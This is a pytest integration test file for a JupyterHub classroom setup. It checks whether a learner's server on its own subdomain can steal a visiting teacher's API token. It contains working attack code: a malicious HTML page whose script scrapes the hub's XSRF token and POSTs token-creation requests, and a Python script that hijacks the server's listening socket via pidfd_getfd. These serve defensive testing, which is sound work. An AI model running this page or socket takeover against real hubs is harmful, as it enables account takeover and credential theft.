"""Browser: each learner's server on its own origin, and an attack from a learner's page.

A learner's server runs code the learner controls. The kernel runs as the learner, and so
does the server, so the learner's code can take the server's listening socket
(`pidfd_getfd`, same uid), pause the server and answer every request on the learner's
route itself, with any page and any headers, while the hub keeps routing there. (Jupyter's
own ways of serving a file, such as /files/, send HTML with `Content-Security-Policy:
sandbox`, and the spawner ignores config files in the home; neither stops a learner who
replaces the server.) So the attack here is what a curious 14-year-old can do: their code
writes evil.html into their home and serves it for every path of their server's URL, and
the teacher of their group opens that URL in Chromium. The page's JavaScript then tries,
with the teacher's browser, to read the hub's /hub/token page (same origin and the hub's
origin) and to POST /hub/api/users/<teacher>/tokens (with the XSRF token it found, and as
a simple no-cors request).

Controls: the page sets `document.title` and reports what it saw to its own origin (the
learner's takeover writes it to a file), so the script demonstrably ran; the hub's API
says whether the teacher got a new token, whatever the page believes. The same attack on
the same-origin layout (`user_subdomains = false`) does get a token: that test shows this
one can fail.

Two subdomain layouts: the demo's (hub at localhost, ana at ana.localhost) and a real
site's (hub.localhost and ana.hub.localhost, like hub.example.org and ana.hub.example.org).
To a browser the first pair are different *sites*, so the hub's cookies never go along; the
second pair are one site, so a simple cross-origin POST does carry the teacher's cookies and
only the hub's own XSRF check stops it. Screenshots go to tests/artifacts/subdomains-*.
"""

from __future__ import annotations

import json
import os
import pwd
import signal
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from conftest import RunningHub, open_logged_in
from hubclient import http_session
from kernelclient import run_code

pytestmark = [pytest.mark.integration, pytest.mark.browser]

TITLE = "evil page ran"
NOTE = "made by a learner's page"

# The learner's page. HUB is the hub's own origin; TEACHER the visitor it hopes to be.
EVIL_HTML = """<!doctype html>
<html><head><meta charset="utf-8"><title>Loading your classmate's work</title></head>
<body><h1>Loading...</h1><pre id="result"></pre>
<script>
(async () => {
  const result = {origin: location.origin, tries: []};
  const xsrf = [];
  async function tokenPage(url) {
    const seen = {what: "read " + url};
    try {
      const r = await fetch(url, {credentials: "include"});
      const text = await r.text();
      const found = text.match(/xsrf_token: "([^"]+)"/);
      if (found && found[1]) xsrf.push(found[1]);
      Object.assign(seen, {status: r.status, url: r.url, isTokenPage: text.includes("Request new API token"),
                           loggedInAs: (text.match(/user: "([^"]*)"/) || [])[1] || ""});
    } catch (e) { seen.error = String(e); }
    result.tries.push(seen);
  }
  async function makeToken(url, init, label) {
    const seen = {what: label + " " + url};
    try {
      const r = await fetch(url, Object.assign({method: "POST", credentials: "include",
                                                body: JSON.stringify({note: "NOTE", expires_in: 600})}, init));
      const text = r.type === "opaque" ? "" : await r.text();
      Object.assign(seen, {status: r.status, type: r.type, gotToken: /"token":\\s*"[0-9a-f]{20,}"/.test(text)});
    } catch (e) { seen.error = String(e); }
    result.tries.push(seen);
  }
  for (const base of ["", "HUB"]) await tokenPage(base + "/hub/token");
  for (const base of ["", "HUB"]) {
    const url = base + "/hub/api/users/TEACHER/tokens";
    for (const token of xsrf) {
      await makeToken(url, {headers: {"Content-Type": "application/json", "X-XSRFToken": token}}, "post with xsrf");
    }
    await makeToken(url, {headers: {"Content-Type": "application/json"}}, "post");
    await makeToken(url, {mode: "no-cors", headers: {"Content-Type": "text/plain"}}, "no-cors post");
  }
  result.gotToken = result.tries.some(t => t.gotToken);
  document.getElementById("result").textContent = JSON.stringify(result, null, 1);
  document.querySelector("h1").textContent = result.gotToken ? "GOT A TOKEN" : "no token";
  await fetch("record", {method: "POST", body: JSON.stringify(result)});  // on its own route
  document.title = "TITLE";
})();
</script></body></html>
"""

# Run as the learner, detached from the kernel. At SIGUSR1 (sent once the test has stopped
# talking to the server through it), take the server's listening socket, pause the server and
# answer everything on its route.
TAKEOVER = r"""
import ctypes, http.server, os, signal, socket, sys
server_pid, port, home = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
open(os.path.join(home, "takeover.pid"), "w").write(str(os.getpid()))
signal.sigwait({signal.SIGUSR1})

libc = ctypes.CDLL(None, use_errno=True)
server = os.pidfd_open(server_pid)

def take_over():
    # The server's listening socket; its open connections (the proxy keeps them alive) are cut.
    os.kill(server_pid, signal.SIGSTOP)
    listening = None
    for fd in sorted(os.listdir(f"/proc/{server_pid}/fd"), key=int):
        if not os.readlink(f"/proc/{server_pid}/fd/{fd}").startswith("socket:"):
            continue
        mine = libc.syscall(438, server, int(fd), 0)  # pidfd_getfd: a copy of the server's fd
        if mine < 0:
            raise SystemExit(f"pidfd_getfd failed: errno {ctypes.get_errno()}")
        sock = socket.socket(fileno=mine)
        try:
            ours = sock.family in (socket.AF_INET, socket.AF_INET6) and sock.getsockname()[1] == port
            accepting = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        except OSError:
            ours = False
        if ours and accepting:
            listening = sock
            continue
        if ours:
            sock.shutdown(socket.SHUT_RDWR)  # the proxy opens a new connection, which is ours
        sock.close()
    if listening is None:
        raise SystemExit("no listening socket found")
    return listening

stolen = take_over()
page = open(os.path.join(home, "evil.html"), "rb").read()

class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        with open(os.path.join(home, "evil-record.json"), "wb") as f:
            f.write(body)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass

httpd = http.server.ThreadingHTTPServer(("127.0.0.1", port), Evil, bind_and_activate=False)
httpd.socket = stolen
open(os.path.join(home, "takeover.ready"), "w").close()
httpd.serve_forever()
"""

SETUP = """
import os, subprocess, sys
from urllib.parse import urlsplit
home = os.path.expanduser("~")
open(os.path.join(home, "evil.html"), "w").write({page!r})
port = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
log = open(os.path.join(home, "takeover.log"), "w")
subprocess.Popen([sys.executable, "-c", {takeover!r}, str(os.getppid()), str(port), home],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
print("server", os.getppid(), "port", port)
"""


@pytest.fixture(scope="module", params=["localhost", "hub.localhost"], ids=["demo-layout", "site-layout"])
def hub(make_hub: Any, request: pytest.FixtureRequest) -> RunningHub:
    return make_hub({"ana": ("student", ["class"]), "tess": ("teacher", ["class"])}, host=request.param)


@pytest.fixture(scope="module")
def same_origin_hub(make_hub: Any) -> RunningHub:
    return make_hub({"ana": ("student", ["class"]), "tess": ("teacher", ["class"])}, subdomains=False)


def _tokens(hub: RunningHub, short: str) -> dict[str, str]:
    """The user's API tokens, as the hub lists them: {id: note}; not the classroom's log-in token,
    which a teacher gets on landing on the classroom after logging in."""
    r = hub.api.get(f"/users/{hub.name(short)}/tokens", timeout=30)
    assert r.status_code == 200, r.text
    tokens = [t for t in r.json()["api_tokens"] if t.get("oauth_client") != "JupyterHub service classroom"]
    return {t["id"]: t.get("note") or "" for t in tokens}


class Takeover:
    """ana's code takes over her server (see the module docstring); `undo` gives it back."""

    def __init__(self, hub: RunningHub) -> None:
        self.hub = hub
        self.name = hub.name("ana")
        self.home = Path(pwd.getpwnam(self.name).pw_dir)
        token = hub.api.post(f"/users/{self.name}/tokens", json={"note": "ana's notebook", "expires_in": 900})
        page = (
            EVIL_HTML.replace("HUB", hub.url)
            .replace("TEACHER", hub.name("tess"))
            .replace("NOTE", NOTE)
            .replace("TITLE", TITLE)
        )
        out = run_code(hub.url, self.name, token.json()["token"], SETUP.format(page=page, takeover=TAKEOVER))
        assert out.startswith("server "), out
        self.server_pid = int(out.split()[1])
        self._wait_for("takeover.pid")
        self.pid = int((self.home / "takeover.pid").read_text())
        os.kill(self.pid, signal.SIGUSR1)
        self._wait_for("takeover.ready")
        # Control: whatever path of the learner's server is asked for, the learner's page answers.
        assert TITLE in http_session().get(f"{hub.server_url(self.name)}any/path", timeout=30).text

    def _wait_for(self, file: str) -> None:
        deadline = time.monotonic() + 60
        while not (self.home / file).exists():
            assert time.monotonic() < deadline, f"no {file}: " + (self.home / "takeover.log").read_text()
            time.sleep(0.1)

    def record(self) -> dict[str, Any]:
        return json.loads((self.home / "evil-record.json").read_text())

    def undo(self) -> None:
        for pid, sig in ((self.pid, signal.SIGKILL), (self.server_pid, signal.SIGCONT)):
            try:
                os.kill(pid, sig)
            except ProcessLookupError:
                pass


def _start_ana(hub: RunningHub) -> None:
    s = hub.login("ana")
    assert s.spawn_with_form(["music"]).status_code == 302
    s.wait_ready(hub.name("ana"))


def _visit(browser: Any, hub: RunningHub, url: str, shot: Path) -> tuple[Any, dict[str, Any]]:
    """The teacher, logged in to the hub, opens `url`; what the learner's page found."""
    page = open_logged_in(browser, hub, "tess")
    page.wait_for_url("**/services/classroom/**")  # a teacher lands on the classroom, on the hub's host
    assert page.url.startswith(f"{hub.url}/services/classroom/"), page.url
    page.goto(url)
    expect(page).to_have_title(TITLE, timeout=60_000)  # control: the learner's script ran
    found = json.loads(page.locator("#result").inner_text())
    page.screenshot(path=str(shot), full_page=True)
    return page, found


def _host(hub: RunningHub) -> str:
    return urlsplit(hub.url).hostname or ""


def test_a_learners_server_has_its_own_origin(hub: RunningHub, browser: Any, artifacts: Path) -> None:
    ana = hub.name("ana")
    port = urlsplit(hub.url).port
    page = open_logged_in(browser, hub, "ana")
    page.get_by_label("Music").check()
    page.click("button[type=submit]")
    page.wait_for_url(f"**/user/{ana}/lab/tree/workbooks*", timeout=120_000)
    assert urlsplit(page.url).netloc == f"{ana}.{_host(hub)}:{port}", page.url  # e.g. ana.localhost:8000
    page.locator(".jp-DirListing-content").get_by_text("beat-lab", exact=True).wait_for()
    page.screenshot(path=str(artifacts / f"subdomains-1-learner-lab-{_host(hub)}.png"))
    assert hub.api.get(f"/users/{ana}").json()["servers"][""]["url"] == f"http://{ana}.{_host(hub)}:{port}/user/{ana}/"
    # The hub's own host serves no server content: JupyterHub redirects /user/<name>/... to
    # /hub/user/<name>/..., which sends a browser on to the server's own host.
    r = http_session().get(f"{hub.url}/user/{ana}/lab", allow_redirects=False, timeout=30)
    assert r.status_code == 302 and r.headers["Location"] == f"{hub.url}/hub/user/{ana}/lab", r.headers
    assert "jupyter-config-data" not in r.text
    # The services stay on the hub's host (a teacher lands there, see _visit); a learner's nav
    # has no Services menu.
    page.goto(f"{hub.url}/hub/home")
    assert page.locator("a.dropdown-item", has_text="classroom").count() == 0
    page.close()


def test_a_learners_page_gets_no_token_from_a_visiting_teacher(hub: RunningHub, browser: Any, artifacts: Path) -> None:
    ana = hub.name("ana")
    if not hub.api.get(f"/users/{ana}").json()["servers"]:
        _start_ana(hub)
    before = _tokens(hub, "tess")
    takeover = Takeover(hub)
    try:
        page, found = _visit(
            browser,
            hub,
            f"{hub.server_url(ana)}files/evil.html",
            artifacts / f"subdomains-2-teacher-on-learners-page-{_host(hub)}.png",
        )
        assert found["origin"] == f"http://{ana}.{_host(hub)}:{urlsplit(hub.url).port}"
        assert takeover.record() == found  # control: it reported to its own origin too
        assert len(found["tries"]) >= 6, found
        assert not found["gotToken"], found
        assert not any(t.get("isTokenPage") for t in found["tries"]), found
        # Through the hub's own host, the teacher's browser ends up on the learner's host all the same:
        # nothing answering on the hub's host is the learner's page.
        seen: list[tuple[str, int]] = []
        page.on(
            "response",
            lambda response: (
                seen.append((response.url, response.status)) if response.request.is_navigation_request() else None
            ),
        )
        page.goto(f"{hub.url}/user/{ana}/files/evil.html")
        expect(page).to_have_title(TITLE, timeout=60_000)
        assert urlsplit(page.url).hostname == f"{ana}.{_host(hub)}", page.url
        on_hub_host = [(url, status) for url, status in seen if urlsplit(url).hostname == _host(hub)]
        assert on_hub_host and all(300 <= status < 400 for _, status in on_hub_host), seen
        r = http_session().get(f"{hub.url}/user/{ana}/files/evil.html", allow_redirects=False, timeout=30)
        assert r.status_code == 302 and r.headers["Location"].startswith(f"{hub.url}/hub/user/{ana}/")
        assert TITLE not in r.text
        page.close()
    finally:
        takeover.undo()
    # The hub's word, whatever the page believed: the teacher has no new token.
    assert _tokens(hub, "tess") == before


def test_the_same_attack_gets_a_token_when_servers_share_the_hubs_origin(
    same_origin_hub: RunningHub, browser: Any, artifacts: Path
) -> None:
    # The control of the test above: with user_subdomains = false the same page, opened the
    # same way, is on the hub's origin and makes the teacher a token. So the test above can fail.
    hub = same_origin_hub
    ana = hub.name("ana")
    _start_ana(hub)
    assert hub.server_url(ana) == f"{hub.url}/user/{ana}/"
    takeover = Takeover(hub)
    try:
        page, found = _visit(
            browser, hub, f"{hub.server_url(ana)}files/evil.html", artifacts / "subdomains-3-same-origin-attack.png"
        )
        page.close()
    finally:
        takeover.undo()
    assert found["origin"] == hub.url
    assert found["gotToken"], found
    assert any(t.get("isTokenPage") and t["loggedInAs"] == hub.name("tess") for t in found["tries"]), found
    assert NOTE in _tokens(hub, "tess").values()
